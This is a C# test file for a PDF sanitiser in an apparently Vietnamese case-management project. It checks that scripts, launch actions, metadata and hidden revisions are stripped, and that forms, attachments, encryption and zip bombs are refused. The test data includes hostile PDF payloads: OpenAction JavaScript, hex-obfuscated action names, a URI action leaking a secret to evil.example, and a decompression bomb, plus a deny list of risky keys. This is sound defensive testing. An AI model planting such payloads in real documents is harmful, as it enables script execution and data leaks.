using System.Globalization;
using System.IO.Compression;
using System.Text;
using UglyToad.PdfPig;
using YenBai.Cases.Support;

namespace YenBai.Cases.Tests.Support;

/// <summary>Of a document its pages are kept and nothing that acts, names its author, or was there before.</summary>
public sealed class PlainPdfFacts
{
    private const string Secret = "Nguyen Van Bi Mat";

    private const string Page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R";
    private const string Font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
    private const string Says = "BT /F1 12 Tf 20 100 Td (Hop dong) Tj ET";

    /// <summary>A document of these objects, from 1; a stream is written as its dictionary and its content.</summary>
    private static byte[] Pdf(IReadOnlyList<(string Dictionary, byte[]? Content)> objects, string trailer = "", byte[]? before = null)
    {
        var written = new MemoryStream();
        written.Write(before ?? "%PDF-1.7\n"u8);
        var offsets = new List<long>();
        for (var i = 0; i < objects.Count; i++)
        {
            offsets.Add(written.Position);
            var (dictionary, content) = objects[i];
            Write($"{i + 1} 0 obj\n{(content is null ? dictionary : dictionary[..^2] + $"/Length {content.Length}>>\nstream\n")}");
            if (content is not null)
            {
                written.Write(content);
                Write("\nendstream");
            }
            Write("\nendobj\n");
        }
        var at = written.Position;
        Write($"xref\n0 {objects.Count + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets) Write(string.Create(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n"));
        Write($"trailer\n<</Size {objects.Count + 1}/Root 1 0 R{trailer}>>\nstartxref\n{at}\n%%EOF\n");
        return written.ToArray();

        void Write(string text) => written.Write(Encoding.Latin1.GetBytes(text));
    }

    private static byte[] OnePage(string catalog = "", string page = "", string trailer = "", params (string, byte[]?)[] more) => Pdf(
    [
        ($"<</Type/Catalog/Pages 2 0 R{catalog}>>", null), ("<</Type/Pages/Kids[3 0 R]/Count 1>>", null), ($"{Page}{page}>>", null), ("<<>>", Encoding.ASCII.GetBytes(Says)), (Font, null), .. more,
    ], trailer);

    private static byte[] Kept(byte[] pdf)
    {
        var (file, wrong) = EvidenceFile.Read(pdf);
        wrong.ShouldBeNull();
        file!.ContentType.ShouldBe("application/pdf");
        return file.Bytes;
    }

    private static void ShouldShowItsPage(byte[] kept)
    {
        using var document = PdfDocument.Open(kept);
        document.NumberOfPages.ShouldBe(1);
        document.GetPage(1).Text.ShouldBe("Hop dong");
        document.GetPage(1).Width.ShouldBe(200);
    }

    private static void ShouldTellNothing(byte[] kept, params string[] also)
    {
        var text = Encoding.Latin1.GetString(kept);
        var hex = Convert.ToHexString(Encoding.ASCII.GetBytes(Secret));
        foreach (var word in new[] { Secret, hex, "JavaScript", "/JS", "/AA", "/OpenAction", "/Launch", "/Metadata", "/Info", "/Names", "/PieceInfo", "/Prev" }.Concat(also)) text.ShouldNotContain(word);
    }

    [Fact]
    public void A_plain_document_shows_what_it_showed()
    {
        var kept = Kept(OnePage());

        ShouldShowItsPage(kept);
        Kept(kept).ShouldBe(kept, "kept once, kept the same again");
    }

    public static TheoryData<string, string, string> Acting => new()
    {
        { "/OpenAction<</S/JavaScript/JS(app.alert('" + Secret + "'))>>", "", "" },
        { "/#4fpenAction<</S/#4a#61vaScript/#4a#53(" + Secret + ")>>", "", "" },
        { "/AA<</WC<</S/JavaScript/JS(" + Secret + ")>>>>", "", "" },
        { "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(" + Secret + ")>>]>>>>", "", "" },
        { "/OpenAction<</S/Launch/F(" + Secret + ")>>", "", "" },
        { "/OpenAction<</S/URI/URI(http://evil.example/" + Secret + ")>>", "", "" },
        { "/Metadata 6 0 R", "", "" },
        { "/PieceInfo<</X<</Private(" + Secret + ")>>>>", "", "" },
        { "/Outlines<</First<</Title(" + Secret + ")>>>>", "", "" },
        { "", "/AA<</O<</S/JavaScript/JS(" + Secret + ")>>>>", "" },
        { "", "/Metadata 6 0 R/PieceInfo<</X(" + Secret + ")>>/LastModified(" + Secret + ")", "" },
        { "", "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/A<</S/URI/URI(" + Secret + ")>>>>]", "" },
        { "", "/Thumb 6 0 R", "" },
        { "", "", "/Info<</Author(" + Secret + ")/Title<" + "4E677579656E2056616E204269204D6174" + ">>>" },
        { "", "", "/ID[<" + "4E677579656E2056616E204269204D6174" + "><00>]" },
    };

    [Theory]
    [MemberData(nameof(Acting))]
    public void What_acts_or_tells_of_its_author_is_not_kept(string catalog, string page, string trailer)
    {
        var kept = Kept(OnePage(catalog, page, trailer, ("<</Type/Metadata/Subtype/XML>>", Encoding.ASCII.GetBytes($"<x:xmpmeta>{Secret}</x:xmpmeta>"))));

        ShouldShowItsPage(kept);
        ShouldTellNothing(kept);
    }

    [Fact]
    public void What_was_there_before_a_later_revision_is_not_kept()
    {
        var first = OnePage(more: ("<<>>", Encoding.ASCII.GetBytes(Secret)));
        var position = Encoding.Latin1.GetString(first).LastIndexOf("xref\n0", StringComparison.Ordinal);
        var at = first.Length;
        var later = $"4 0 obj\n<</Length {Says.Length}>>\nstream\n{Says}\nendstream\nendobj\n";
        var xref = at + later.Length;
        byte[] both = [.. first, .. Encoding.Latin1.GetBytes($"{later}xref\n4 1\n{at:D10} 00000 n \ntrailer\n<</Size 7/Root 1 0 R/Prev {position}>>\nstartxref\n{xref}\n%%EOF\n")];

        var kept = Kept(both);

        ShouldShowItsPage(kept);
        ShouldTellNothing(kept);
    }

    [Fact]
    public void What_lies_in_object_streams_is_resolved_before_it_is_judged()
    {
        // 1 catalog (with a script) and 5 font lie in the stream 6; 7 is the cross-reference stream.
        var inside = new[] { (1, $"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS({Secret})>>>>"), (5, Font) };
        var heads = $"1 0 5 {inside[0].Item2.Length + 1} ";
        var packed = Packed(Encoding.ASCII.GetBytes(heads + inside[0].Item2 + " " + inside[1].Item2));
        var written = new MemoryStream();
        var offsets = new Dictionary<int, long>();
        Write("%PDF-1.7\n");
        Object(2, "<</Type/Pages/Kids[3 0 R]/Count 1>>", null);
        Object(3, Page + ">>", null);
        Object(4, $"<</Length {Says.Length}>>", Encoding.ASCII.GetBytes(Says));
        Object(6, $"<</Type/ObjStm/N 2/First {heads.Length}/Filter/FlateDecode/Length {packed.Length}>>", packed);
        var xref = written.Position;
        var entries = new MemoryStream();
        Entry(0, 0, 255);
        Entry(2, 6, 0);
        foreach (var number in new[] { 2, 3, 4 }) Entry(1, offsets[number], 0);
        Entry(2, 6, 1);
        Entry(1, offsets[6], 0);
        Entry(1, xref, 0);
        var table = Packed(entries.ToArray());
        Object(7, $"<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length {table.Length}>>", table);
        Write($"startxref\n{xref}\n%%EOF\n");

        var kept = Kept(written.ToArray());

        ShouldShowItsPage(kept);
        ShouldTellNothing(kept);

        void Write(string text) => written.Write(Encoding.Latin1.GetBytes(text));
        void Entry(byte type, long value, byte index) => entries.Write([type, (byte)(value >> 24), (byte)(value >> 16), (byte)(value >> 8), (byte)value, index]);
        void Object(int number, string dictionary, byte[]? content)
        {
            offsets[number] = written.Position;
            Write($"{number} 0 obj\n{dictionary}\n");
            if (content is not null)
            {
                Write("stream\n");
                written.Write(content);
                Write("\nendstream\n");
            }
            Write("endobj\n");
        }
    }

    private static byte[] Packed(byte[] bytes)
    {
        using var memory = new MemoryStream();
        using (var zlib = new ZLibStream(memory, CompressionLevel.Optimal)) zlib.Write(bytes);
        return memory.ToArray();
    }

    [Fact]
    public void A_photograph_inside_is_kept_as_a_photograph_is()
    {
        byte[] Segment(byte marker, params byte[] content) => [0xFF, marker, (byte)((content.Length + 2) >> 8), (byte)(content.Length + 2), .. content];
        byte[] jpeg = [0xFF, 0xD8, .. Segment(0xE1, [.. "Exif\0\0"u8, .. Encoding.ASCII.GetBytes(Secret)]), .. Segment(0xDA, 1), 0x11, 0xFF, 0xD9];
        var pdf = Pdf(
        [
            ("<</Type/Catalog/Pages 2 0 R>>", null), ("<</Type/Pages/Kids[3 0 R]/Count 1>>", null),
            ("<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</XObject<</A 5 0 R>>>>/Contents 4 0 R>>", null), ("<<>>", "/A Do"u8.ToArray()),
            ($"<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/DCTDecode/Metadata 6 0 R/PTEX.FileName({Secret})>>", jpeg), ("<<>>", Encoding.ASCII.GetBytes(Secret)),
        ]);

        var kept = Kept(pdf);

        ShouldTellNothing(kept, "Exif", "PTEX");
        Encoding.Latin1.GetString(kept).ShouldContain("/A 4 0 R", Case.Sensitive, "a picture may be called as an action is");
    }

    [Theory]
    [InlineData("/AcroForm<</Fields[6 0 R]>>", "")]
    [InlineData("/AcroForm<</Fields[]/XFA[(a)6 0 R]>>", "")]
    [InlineData("/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", "")]
    [InlineData("/#4eames<</Embedded#46iles<</Names[(a)6 0 R]>>>>", "")]
    [InlineData("/Collection<</View/D>>", "")]
    [InlineData("/AF[6 0 R]", "")]
    [InlineData("", "/Annots[<</Type/Annot/Subtype/Widget/Rect[0 0 1 1]/V(x)>>]")]
    [InlineData("", "/Annots[<</Type/Annot/Subtype/FreeText/Rect[0 0 1 1]/Contents(x)>>]")]
    [InlineData("", "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 1 1]>>]")]
    [InlineData("", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>]")]
    public void What_somebody_meant_to_be_seen_beside_the_page_is_refused_and_not_lost(string catalog, string page) =>
        EvidenceFile.Read(OnePage(catalog, page, more: ("<</T(a)>>", null))).Wrong.ShouldBe("attachment_pdf_parts");

    [Fact]
    public void An_encrypted_document_is_refused() =>
        EvidenceFile.Read(OnePage(trailer: $"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/Length 40/P -44/O<{new string('0', 64)}>/U<{new string('1', 64)}>>>")).Wrong
            .ShouldBeOneOf("attachment_pdf_locked", "attachment_malformed");

    [Fact]
    public void What_unpacks_to_more_than_any_scan_is_refused_before_it_is_opened()
    {
        using var memory = new MemoryStream();
        using (var zlib = new ZLibStream(memory, CompressionLevel.Optimal))
            for (var i = 0; i < 300; i++) zlib.Write(new byte[1 << 20]);

        EvidenceFile.Read(OnePage(more: ("<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>", memory.ToArray()))).Wrong.ShouldBe("attachment_malformed");
    }

    [Theory]
    [InlineData("%PDF-1.7\n1 0 obj\n%%EOF")]
    [InlineData("%PDF-")]
    [InlineData("%PDF-1.7\ntrailer<</Root 1 0 R>>")]
    public void What_is_no_document_is_refused(string text) => EvidenceFile.Read(Encoding.ASCII.GetBytes(text)).Wrong.ShouldBe("attachment_malformed");

    [Fact]
    public void Pages_that_lead_in_a_circle_are_refused() =>
        EvidenceFile.Read(Pdf([("<</Type/Catalog/Pages 2 0 R>>", null), ("<</Type/Pages/Kids[2 0 R]/Count 1>>", null)])).Wrong.ShouldBe("attachment_malformed");

    [Fact]
    public void A_damaged_document_is_read_or_refused_and_never_a_failure()
    {
        var whole = OnePage("/OpenAction<</S/JavaScript/JS(x)>>", "/Annots[]", "/Info<</Author(x)>>");
        var random = new Random(11);
        for (var i = 0; i < 400; i++)
        {
            var damaged = (byte[])whole.Clone();
            for (var n = random.Next(1, 12); n > 0; n--) damaged[random.Next(8, damaged.Length)] = (byte)random.Next(256);
            if (i % 4 == 0) damaged = damaged[..random.Next(8, damaged.Length)];

            var (file, wrong) = EvidenceFile.Read(damaged);

            if (file is null) wrong.ShouldBeOneOf("attachment_malformed", "attachment_pdf_parts", "attachment_pdf_locked");
            else ShouldTellNothing(file.Bytes);
        }
    }
}
